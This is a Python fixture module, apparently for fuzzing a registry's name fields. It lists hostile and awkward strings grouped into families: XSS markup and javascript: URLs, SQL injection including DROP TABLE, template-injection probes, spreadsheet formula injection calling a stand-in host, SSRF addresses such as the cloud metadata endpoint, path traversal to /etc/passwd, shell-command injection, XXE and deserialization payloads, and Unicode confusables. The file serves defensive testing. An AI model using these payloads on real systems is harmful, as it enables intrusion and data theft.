"""What could somebody write where a name belongs? Each of these once, to be put wherever the registry keeps a text.

Whatever is markup in one of them carries MARK as an element or an attribute, so that it is known where it comes alive.
"""

from collections.abc import Iterator, Sequence

MARK = "x7q"
CONTROLS = "\a\b\v\f\x1b\x7f\x85"

SCRIPTS = [
    "<script>alert('x7q')</script>", "<SCRIPT x7q>alert(1)</SCRIPT>", "</script><script x7q>alert(1)</script>",
    "<script src=//x7q.example/a.js></script>", "<script/x7q>alert(1)</script>", "<scr<script x7q>ipt>alert(1)",
    "<script x7q type=module>import('//x7q.example')</script>", "<script>x7q`${alert(1)}`</script>",
    "\u003cscript x7q\u003e", "&lt;script x7q&gt;alert(1)&lt;/script&gt;", "%3Cscript%20x7q%3E",
    "\\x3cscript x7q\\x3e", "\\u003cscript x7q\\u003e", "&#60;script x7q&#62;", "&#x3c;script x7q&#x3e;",
    "+ADw-script x7q+AD4-", "\uff1cscript x7q\uff1e", "<ſcript x7q>alert(1)</ſcript>", "\u2039script x7q\u203a",
    "<<script x7q>>alert(1)",
]  # fmt: skip
ELEMENTS = [
    "<img src=x onerror=alert(1) x7q>", "<img/src=x/onerror=alert(1)/x7q>", "<img src='file:///etc/passwd' x7q>",
    '<img src="http://x7q.example/i.png">', "<svg onload=alert(1) x7q>",
    "<svg><x7q xlink:href='javascript:alert(1)'>", "<svg><animate x7q onbegin=alert(1) attributeName=x>",
    "<svg><use x7q href='data:image/svg+xml,<svg/>#x'/></svg>", "<svg><script x7q>alert&lpar;1&rpar;</script></svg>",
    "<math><mtext x7q><style><img src=x onerror=alert(1)>", "<math href='javascript:alert(1)' x7q>x",
    "<iframe src=javascript:alert(1) x7q></iframe>", "<iframe srcdoc='<p x7q>'>",
    "<object data=javascript:alert(1) x7q>", "<embed src=//x7q.example>",
    "<video x7q><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1) x7q>",
    "<body onload=alert(1) x7q>", "<html x7q lang=xx>", "<base href=//x7q.example/>",
    "<meta http-equiv=refresh content='0;url=//x7q.example'>", "<link rel=stylesheet href=//x7q.example/a.css>",
    "<style x7q>*{display:none}</style>", "<p style=position:fixed x7q>", "<form action=//x7q.example><input x7q>",
    "</form><form x7q method=post>", "<button formaction=javascript:alert(1) x7q>go</button>",
    "<input autofocus onfocus=alert(1) x7q>", "<select x7q><option>", "</select></textarea><x7q>",
    "</option></select><x7q>", "</textarea><x7q onclick=alert(1)>", "</title><x7q>", "</noscript><x7q>",
    "</dd></dl><x7q>", "</td></tr></table><x7q>", "</main></body></html><x7q>",
    "<details open ontoggle=alert(1) x7q>", "<marquee onstart=alert(1) x7q>",
    "<template x7q><slot></slot></template>", "<x7q onmouseover=alert(1)>", "<x7q/onclick=alert(1)//",
    "<x7q\fonclick=alert(1)>", "<x7q onclick\t=\talert(1)>", "<isindex action=javascript:alert(1) x7q>",
    "<dialog open x7q>", "<portal src=//x7q.example>", "<plaintext x7q>", "<noscript><p title='</noscript><x7q>'>",
    "<xmp><p title='</xmp><x7q>'>", "<listing x7q>", "<a name=x7q id=csrf_token>", "<label for=email x7q>",
    "<img name=cookie x7q>", "<form id=document x7q>", "<b x7q>bold</b>", "<i x7q><u>", "<br x7q/>",
    "<a href='javascript:alert(1)' x7q>x</a>", "<a href='data:text/html,<x7q>'>x</a>", "<a href=//x7q.example>x</a>",
    "<area shape=default href=javascript:alert(1) x7q>", "<blink x7q>", "<keygen autofocus onfocus=alert(1) x7q>",
]  # fmt: skip
ATTRIBUTES = [
    '" onmouseover=alert(1) x7q="', "' onmouseover=alert(1) x7q='", "` onmouseover=alert(1) x7q=`", '"><x7q>',
    "'><x7q>", '"/><x7q>', " x7q=1 onfocus=alert(1) autofocus ", '" style="x7q:expression(alert(1))',
    '" autofocus onfocus=alert(1) x7q=', '" href="javascript:alert(1)" x7q="', '" formaction="//x7q.example',
    '" data-verdict="yes" x7q="', 'x"\nx7q="1', "x\u00a0x7q=1", '\\" x7q=\\"', "&quot; x7q=&quot;",
    "&#34; x7q=&#34;", "=x7q", "x>x7q", "\"'><!--x7q",
]  # fmt: skip
ADDRESSES = [
    "javascript:alert('x7q')", "JaVaScRiPt:alert('x7q')", "java\tscript:alert('x7q')", "\x01javascript:alert('x7q')",
    "data:text/html,<x7q>", "data:text/html;base64,PHg3cT4=", "vbscript:msgbox('x7q')", "//x7q.example",
    "\\\\x7q.example", "https://x7q.example/", "http://localhost@x7q.example", "/\\x7q.example", "http:x7q.example",
    "file:///etc/passwd", "gopher://127.0.0.1:25/x7q", "http://169.254.169.254/latest/meta-data/", "http://[::1]:22/",
    "mailto:x7q@x.example", "?next=//x7q.example", "#x7q", "?q=x7q&amp;staff=1", "%2f%2fx7q.example", "..%2f..%2fx7q",
    "x7q%00.html", "%0d%0ax7q: 1",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "{{ 7*'7' }}", "{% raw %}x7q", "{% include '/etc/passwd' %}", "{# x7q #}", "{{config}}",
    "{{ cycler.__init__ }}", "{{ ''.__class__.__mro__ }}", "{0.__class__}", "{0}", "{}", "{name}", "{self}", "{0[0]}",
    "{:>9999}", "{!r}", "{{{{x7q}}}}", "%s", "%d", "%n%n%n%n", "%(name)s", "%(x7q)s", "%", "%%", "%c%c", "%99999999s",
    "$x7q", "${7*7}", "${{7*7}}", "#{7*7}", "$(id)", "`id`", "<%= 7*7 %>", "<?php x7q ?>", "[[7*7]]", "*{7*7}",
    "@(7*7)", "{{= 7*7}}", "{%x7q%}", "\\input{/etc/passwd}",
]  # fmt: skip
DATABASES = [
    "' OR '1'='1", "'; DROP TABLE patron; --", '" OR ""="', "1; SELECT pg_sleep(9)--", "' UNION SELECT NULL--",
    "admin'--", "') OR ('1'='1", "\\'; DROP TABLE patron;--", "x' AND 1=randomblob(9)--", "%' OR name LIKE '%", "_%_",
    "100%", "[a-z]*", "a?b*c", ":name", ":1", "?1", "$1", "@x7q", "E'\\x27'", "/**/OR/**/1=1", "0x27", "NULL", "null",
    "None", "nil", "undefined", "true", "NaN", "Infinity", "-1", "0", "1e309", "00", "0x7q", "2147483648",
    "9223372036854775808", "1/0", "self", "all", "unknown",
]  # fmt: skip
FORMULAS = [
    "=1+1", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", '=HYPERLINK("//x7q.example")',
    "=IMPORTXML(1)", '=WEBSERVICE("http://x7q.example")', ";=1+1", ",=1+1", '"=1+1"', "'=1+1", "\uff1d1+1", "a,b",
    "a;b", 'a"b', "a\tb",
]  # fmt: skip
LINES = [
    "x7q\r\nSet-Cookie: x7q=1", "x7q\nLocation: //x7q.example", "x7q\r\n\r\n<x7q>", "x7q\rX: 1", "x7q\u2028{}",
    "x7q\u2029{}", "x7q\x85next", "x7q\n2026-01-01 ERROR root: x7q", "x7q\x1b[2J\x1b[31mred", "x7q\x1b]0;title\a",
    "x7q\x9b31m", "x7q\b\b\b", "\v\f", "Bcc: x7q@x.example\nx", "x7q\n.\nQUIT", '{"level": "x7q"}', "x7q\\n\\r",
    'filename="x7q"; x="', "x7q; HttpOnly", "a\\\nb",
]  # fmt: skip
DIRECTIONS = [
    "\u202eanA", "A\u202dna\u202c", "\u2066Ana\u2069", "\u2067anA", "A\u200bna", "A\u200cna", "A\u200dna",
    "A\u2060na", "\ufeffAna", "Ana\u200e", "A\u00adna", "\u061cAna", "مرحبا Ana (1)", "שלום-Ana", "A\u034fna",
    "\U000e0041na", "\u180eAna", "a\u202eb\u2066c",
    "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358a\u0359\u035a\u035b\u035c\u035d\u035el\u035f\u0360go",
    "A" + "\u0301" * 60, "\u0301Ana", "e\u0301 \u00e9", "A\u030a \u00c5 \u212b", "\ufb01\ufb02\u01c6", "\ufdfa",
    "\u0e33\u0e49\u0e49\u0e49", "\u0489\u20dd",
]  # fmt: skip
LOOK_ALIKES = [
    "\u0410na", "An\u0430", "\u0410\u043d\u0430", "\u0391na", "\U0001d400na", "\uff21na", "\u24b6na", "\u13aana",
    "\u0391\u03bda", "Rober\u0442", "p\u0430ypal", "O\u2019Brien", "O\u02bcBrien", "O\u00b4Brien", "O`Brien",
    "A\u2010B", "A\u2011B", "A\u2013B", "A\u2212B", "\u0131\u0130", "STRASSE stra\u00dfe", "\u03c3\u03c2", "\u1e9e",
    "l1I|", "0O\u041e", "\u0cb8\u0cbe", "rn m",
]  # fmt: skip
SPACES = [
    "A\u00a0na", "A\u2003na", "A\u3000na", "A\u1680na", "A\u2800na", "A\u3164na", "A\u205fna", "A\u202fna", "A  na",
    "A\tna", "\u3164", "\u2800", ".", "..", "-", "--", "_", "/", "\\", "'", '"', "`", "&", "<", ">", "#", "?", ";",
    ",", "|", "~", "^", "*", "\u00b7",
]  # fmt: skip
PATHS = [
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\con\\con", "CON", "nul.txt", "COM1",
    "aux", "LPT1:", "....//....//x7q", "%2e%2e%2f", "..%c0%af", "a//b", "a/./b", "a/../b", "/a", "a/", ".git/config",
    "a.pdf", "card.pdf", "~root", "file.pdf\\0.html", "-rf", "--help", "|id", "; id", "&& id", "a/correct", "a/hold",
    "desk/signings", "new", "add", "%", "%zz", "%2F",
]  # fmt: skip
EMOJI = [
    "👨‍👩‍👧‍👦", "👩🏽‍🚒", "🏳️‍🌈", "🇺🇸🇲🇽", "❤️", "😀" * 32, "🅰na", "1️⃣", "☃︎", "🫠🫡", "\U0001f9d1\u200d\U0001f9b0", "👍🏿",
]  # fmt: skip
SCRIPT_WRITINGS = [
    "王小明", "山田さくら", "김민준", "محمّد علي", "नरेन्द्र", "ธนพล", "Ελένη", "Анна", "שרה", "தமிழ்", "తెలుగు", "ខ្មែរ",
    "አበበ", "မြန်မာ", "ᏣᎳᎩ", "Nguyễn Thị Ánh", "Þórður Łukasz", "𠮷野", "한Ana王", "Ka\u02bbiulani", "Mª Ñandú", "ʻOkina",
    "Ǆ ǅ ǆ", "ﷺ", "\U00012000", "\U0001f1e6",
]  # fmt: skip
PAPERS = [
    "<font color=red>x7q</font>", "<b>x7q", "<para x7q>", "<a href=file:///etc/passwd>x7q</a>",
    '<img src="file:///etc/passwd"/>', '<img src="http://x7q.example/a.png" width=9 height=9/>',
    "<font color=[[[getattr(pow,'x')]]]>", "<br/>", "<u>x7q</u>", "<seq id=x7q>", "<onDraw name=x7q label=x>",
    "<super>x7q</super>", "&amp;", "&", "&#0;", "&nbsp;", "&lt;b&gt;", "&unknown;", "<greek>a</greek>", "<link x7q>",
    "(x7q) Tj ET", ")>>/OpenAction<</S/JavaScript", "\\050x7q\\051", "endstream endobj", "%PDF-1.7", "<</URI(x7q)>>",
    "<index item=x7q/>",
]  # fmt: skip
DATA = [
    '{"x7q": 1}', "[1, 2]", '"x7q"', '{"__proto__": {"x7q": 1}}', "__proto__", "constructor", "toString",
    "<!-- x7q", "--> x7q", "<!--x7q--!>", "<![CDATA[x7q]]>", "]]>", "<?xml version='1.0'?>",
    "<!DOCTYPE x7q SYSTEM 'file:///etc/passwd'>", "<!ENTITY x7q 'a'>", "&x7q;", "!!python/object:x7q", "- x7q: 1",
    "x7q: |", "c__builtin__\neval\n.", 'O:8:"stdClass":0:{}', "rO0ABXQ=", "\\u0000", "\\x00", "--x7q--", "a=b&c=d",
    "csrf_token", "_method=DELETE", "x7q[]=1", "patron", "on", "y", "<%00x7q>",
]  # fmt: skip
LENGTHS = [
    "W" * 128, "王" * 128, "🎉" * 128, "<" * 128, "A" + "\u0301" * 127, "Donaudampfschifffahrtsgesellschaftskapitän",
    " ".join("abcdefghijklmnopqrstuvwxyz0123456789éèêëàâäîïôöùûüñåßðþæøœłđ"),
]  # fmt: skip
FAMILIES: Sequence[Sequence[str]] = (
    SCRIPTS, ELEMENTS, ATTRIBUTES, ADDRESSES, TEMPLATES, DATABASES, FORMULAS, LINES, DIRECTIONS, LOOK_ALIKES, SPACES,
    PATHS, EMOJI, SCRIPT_WRITINGS, PAPERS, DATA, LENGTHS,
)  # fmt: skip
CORPUS: Sequence[str] = tuple(dict.fromkeys(text for family in FAMILIES for text in [*family]))


def packed(at_most: int, texts: Sequence[str] = CORPUS, *, between: str = " ") -> Sequence[str]:
    """All of these in as few texts of that length as hold them in their order; what is longer is cut."""
    return tuple(_packs(at_most, texts, between))


def _packs(at_most: int, texts: Sequence[str], between: str) -> Iterator[str]:
    pack = ""
    for text in (text[:at_most].rstrip(" ") for text in texts):
        longer = f"{pack}{between}{text}" if pack else text
        if len(longer) > at_most:
            yield pack
            longer = text
        pack = longer
    if pack:
        yield pack
